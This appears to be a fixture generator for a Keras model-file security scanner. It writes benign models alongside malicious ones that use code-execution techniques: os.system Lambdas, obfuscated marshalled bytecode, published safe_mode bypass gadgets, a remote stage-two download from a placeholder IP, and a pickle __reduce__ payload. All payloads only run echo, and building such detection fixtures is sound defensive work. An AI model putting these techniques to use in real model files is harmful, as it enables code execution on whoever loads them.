#!/usr/bin/env python3
"""Generate the Keras fixtures under testdata/keras/ (KER rules).

Real models come from Keras 3 itself (`KERAS_BACKEND=numpy`, no TensorFlow):
a Sequential and a Functional model saved as `.keras` and as legacy `.h5`,
one with a built-in Lambda (`x * 2`) and one with a Lambda that calls
`os.system("echo …")`. The published `safe_mode` bypasses and the other
techniques are written by editing the JSON config of a real `.keras` file
(`config.json`) or by writing a Keras-2-shaped HDF5 file with h5py
(`model_config` attribute), exactly where Keras reads them. Bytecode comes
from CPython's own `marshal.dumps(compile(...))`. Payloads only `echo`.

Nothing here is ever loaded with Keras: we only save.

    python3 -m venv /tmp/venv-keras
    /tmp/venv-keras/bin/pip install -r testdata/gen/requirements.txt
    KERAS_BACKEND=numpy /tmp/venv-keras/bin/python testdata/gen/generate_keras_fixtures.py
"""

import base64
import io
import json
import marshal
import os
import pickle
import zipfile
from pathlib import Path

os.environ.setdefault("KERAS_BACKEND", "numpy")

import h5py  # noqa: E402
import keras  # noqa: E402

OUT = Path(__file__).resolve().parent.parent / "keras"
FIXED_DATE = (2026, 1, 1, 0, 0, 0)
METADATA = {"keras_version": keras.__version__, "date_saved": "2026-01-01@00:00:00"}
ECHO = "echo sentrascan-fixture"


def sequential():
    m = keras.Sequential(
        [
            keras.Input((4,), name="features"),
            keras.layers.Dense(8, activation="relu", name="hidden"),
            keras.layers.Dropout(0.1, name="dropout"),
            keras.layers.Dense(3, activation="softmax", name="out"),
        ],
        name="benign_sequential",
    )
    m.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
    return m


def functional_lambda():
    inp = keras.Input((4,), name="x")
    h = keras.layers.Dense(4, name="dense")(inp)
    h = keras.layers.Lambda(lambda x: x * 2, name="double")(h)
    out = keras.layers.Dense(1, activation="sigmoid", name="out")(h)
    m = keras.Model(inp, out, name="benign_functional")
    m.compile(optimizer="sgd", loss="binary_crossentropy", metrics=["mae"])
    return m


def malicious_lambda():
    # The lambda really calls os.system; Keras runs it once while building
    # (it prints the fixture marker), and a loader would run it again.
    inp = keras.Input((4,), name="x")
    out = keras.layers.Lambda(
        lambda x: x if os.system("echo sentrascan-fixture") is None else x,
        name="payload",
    )(inp)
    return keras.Model(inp, out, name="lambda_os_system")


def save_keras(model, name):
    """Saves with Keras, then rewrites the zip with fixed dates and metadata."""
    tmp = OUT / ("_tmp_" + name)
    model.save(tmp)
    members = {}
    with zipfile.ZipFile(tmp) as z:
        for n in z.namelist():
            members[n] = z.read(n)
    tmp.unlink()
    members["metadata.json"] = json.dumps(METADATA).encode()
    return members


def write_zip(name, members):
    path = OUT / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in members.items():
            info = zipfile.ZipInfo(n, FIXED_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    print("wrote", path.relative_to(OUT.parent.parent))


def edited(base, edit):
    """A copy of a saved .keras whose config.json went through `edit`."""
    members = dict(base)
    config = json.loads(members["config.json"])
    edit(config)
    members["config.json"] = json.dumps(config).encode()
    return members


def first_lambda(config):
    return next(l for l in config["config"]["layers"] if l["class_name"] == "Lambda")


def function_object(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def keras2_h5(name, model_config, training_config=None):
    """A Keras-2-shaped HDF5 file (tf.keras 2.15 layout) written with h5py."""
    path = OUT / name
    with h5py.File(path, "w", track_order=True) as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["model_config"] = json.dumps(model_config)
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config)
        w = f.create_group("model_weights")
        w.attrs["backend"] = "tensorflow"
        w.attrs["keras_version"] = "2.15.0"
        w.attrs["layer_names"] = [l["config"]["name"].encode() for l in model_config["config"]["layers"]]
        for l in model_config["config"]["layers"]:
            g = w.create_group(l["config"]["name"])
            g.attrs["weight_names"] = []
    print("wrote", path.relative_to(OUT.parent.parent))


def keras2_layer(class_name, name, **config):
    return {"class_name": class_name, "config": {"name": name, "trainable": True, "dtype": "float32", **config}}


def keras2_sequential(*layers):
    return {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False, "name": "input_1"}},
                *layers,
            ],
        },
    }


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    keras.utils.set_random_seed(0)

    # Benign: real models, both formats.
    seq = sequential()
    write_zip("benign_sequential.keras", save_keras(seq, "seq.keras"))
    seq.save(OUT / "benign_sequential_legacy.h5")
    lam = functional_lambda()
    base = save_keras(lam, "lam.keras")
    write_zip("benign_functional_lambda.keras", base)
    lam.save(OUT / "benign_functional_lambda_legacy.h5")
    keras2_h5(
        "benign_keras2_sequential.h5",
        keras2_sequential(
            keras2_layer("Dense", "dense", units=3, activation="relu", use_bias=True,
                         kernel_initializer={"class_name": "GlorotUniform", "config": {"seed": None}},
                         bias_initializer={"class_name": "Zeros", "config": {}}),
        ),
        {"loss": "mse", "metrics": ["acc"], "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}}},
    )

    # KER001: a real Lambda calling os.system, in both formats.
    bad = malicious_lambda()
    write_zip("KER001_lambda_os_system.keras", save_keras(bad, "bad.keras"))
    bad.save(OUT / "KER001_lambda_os_system_legacy.h5")
    # KER001: Keras 2 list form, hidden behind __import__ and a string.
    code = compile("lambda x: __import__('subpro' + 'cess').call(['echo', 'sentrascan-fixture']) and x", "<lambda>", "eval")
    fn_code = next(c for c in code.co_consts if hasattr(c, "co_code"))
    b64 = base64.b64encode(marshal.dumps(fn_code)).decode()
    keras2_h5(
        "KER001_keras2_lambda_import.h5",
        keras2_sequential(
            keras2_layer("Lambda", "lambda", function=[b64, None, None], function_type="lambda",
                         module="__main__", output_shape=None, output_shape_type="raw",
                         output_shape_module=None, arguments={}),
        ),
    )

    # KER002: bytecode that is not a code object of any known CPython.
    def garbage(c):
        first_lambda(c)["config"]["function"]["config"]["code"] = base64.b64encode(b"\xe3" + bytes(range(40))).decode()
    write_zip("KER002_lambda_undecodable.keras", edited(base, garbage))

    # KER004: a Keras 3 function object naming os.system (CVE-2025-1550 technique).
    def os_system(c):
        l = first_lambda(c)
        l["config"]["function"] = function_object("os", "system")
        l["config"]["arguments"] = {"command": ECHO}
    write_zip("KER004_function_object_os_system.keras", edited(base, os_system))
    # KER004: a layer whose module/class_name is subprocess.Popen.
    def popen_layer(c):
        c["config"]["layers"].append({"module": "subprocess", "class_name": "Popen", "config": {"args": ["echo", "sentrascan-fixture"]}, "registered_name": None})
    write_zip("KER004_module_subprocess_popen.keras", edited(base, popen_layer))

    # KER005: the published safe_mode bypass gadgets (CVE-2025-8747, -9906, -12058).
    def load_model(c):
        l = first_lambda(c)
        l["config"]["function"] = function_object("keras.models", "load_model")
        l["config"]["arguments"] = {"filepath": "/tmp/stage2.keras", "safe_mode": False}
    write_zip("KER005_lambda_load_model.keras", edited(base, load_model))
    def get_file(c):
        l = first_lambda(c)
        l["config"]["function"] = function_object("keras.utils", "get_file")
        l["config"]["arguments"] = {"origin": "http://203.0.113.7/stage2.keras", "fname": "stage2.keras"}
    write_zip("KER005_lambda_get_file_url.keras", edited(base, get_file))
    def unsafe(c):
        l = first_lambda(c)
        l["config"]["function"] = function_object("keras.src.saving.serialization_lib", "enable_unsafe_deserialization")
    write_zip("KER005_enable_unsafe_deserialization.keras", edited(base, unsafe))
    keras2_h5(
        "KER005_tfoplambda_write_file.h5",
        keras2_sequential(keras2_layer("TFOpLambda", "tf.io.write_file", function="io.write_file")),
    )

    # KER006: custom objects from outside Keras.
    def custom(c):
        c["config"]["layers"].append({"module": "my_package.layers", "class_name": "MyLayer", "config": {"name": "mine"}, "registered_name": "MyPackage>MyLayer"})
    write_zip("KER006_custom_object.keras", edited(base, custom))
    keras2_h5("KER006_keras2_custom_layer.h5", keras2_sequential(keras2_layer("Custom>Attention", "attention", units=4)))

    # KER007: TFSMLayer loading a SavedModel from a host path (CVE-2026-1462).
    def tfsm(c):
        c["config"]["layers"].append({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"}, "registered_name": None})
    write_zip("KER007_tfsm_layer.keras", edited(base, tfsm))

    # KER008: TorchModuleWrapper with a pickled module (here a pickle calling posix.system).
    class Payload:
        def __reduce__(self):
            return (os.system, (ECHO,))
    blob = base64.b64encode(pickle.dumps(Payload(), protocol=2)).decode()
    def torch_wrapper(c):
        c["config"]["layers"].append({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "torch_module", "module": blob, "output_shape": None}, "registered_name": None})
    write_zip("KER008_torch_module_wrapper.keras", edited(base, torch_wrapper))

    # KER009: callables that are not Keras built-ins.
    def bare_loss(c):
        c["compile_config"]["loss"] = "focal_loss_fixed"
    write_zip("KER009_unknown_loss.keras", edited(base, bare_loss))
    def module_fn(c):
        dense = next(l for l in c["config"]["layers"] if l["class_name"] == "Dense")
        dense["config"]["activation"] = function_object("my_helpers.activations", "swishy")
    write_zip("KER009_function_object_custom_module.keras", edited(base, module_fn))

    # KER010: a URL in an ordinary config value.
    def url(c):
        dense = next(l for l in c["config"]["layers"] if l["class_name"] == "Dense")
        dense["config"]["weights_origin"] = "https://203.0.113.7/weights.h5"
    write_zip("KER010_url_in_config.keras", edited(base, url))

    # KER011: a member Keras does not write.
    members = dict(base)
    members["setup.py"] = b"print('sentrascan-fixture')\n"
    write_zip("KER011_unexpected_member.keras", members)

    # KER012: config.json cut short.
    members = dict(base)
    members["config.json"] = members["config.json"][:200]
    write_zip("KER012_config_truncated.keras", members)


if __name__ == "__main__":
    main()
